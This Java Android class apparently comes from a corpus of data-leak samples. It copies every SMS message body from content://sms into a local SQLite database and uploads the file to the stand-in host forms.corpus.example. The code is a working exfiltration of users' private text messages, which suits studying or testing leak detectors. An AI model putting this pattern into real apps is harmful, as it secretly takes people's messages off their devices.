package org.corpus;

import android.database.sqlite.SQLiteDatabase;
import java.io.DataInputStream;
import java.io.File;
import java.io.FileInputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A database of the app's own, uploaded. */
public class AsSqlite extends Screen {
    @Override
    protected void act() throws Exception {
        File file = getDatabasePath("copy.db");
        file.getParentFile().mkdirs();
        try (SQLiteDatabase base = SQLiteDatabase.openOrCreateDatabase(file, null)) {
            base.execSQL("CREATE TABLE IF NOT EXISTS t (body TEXT)");
            base.execSQL("DELETE FROM t");
            for (String body : Owner.rows(this, "content://sms", "body")) {
                base.execSQL("INSERT INTO t VALUES (?)", new Object[] {body});
            }
        }
        byte[] data = new byte[(int) file.length()];
        try (DataInputStream in = new DataInputStream(new FileInputStream(file))) {
            in.readFully(data);
        }
        Net.post("http://forms.corpus.example/sqlite", "application/octet-stream", data);
    }
}
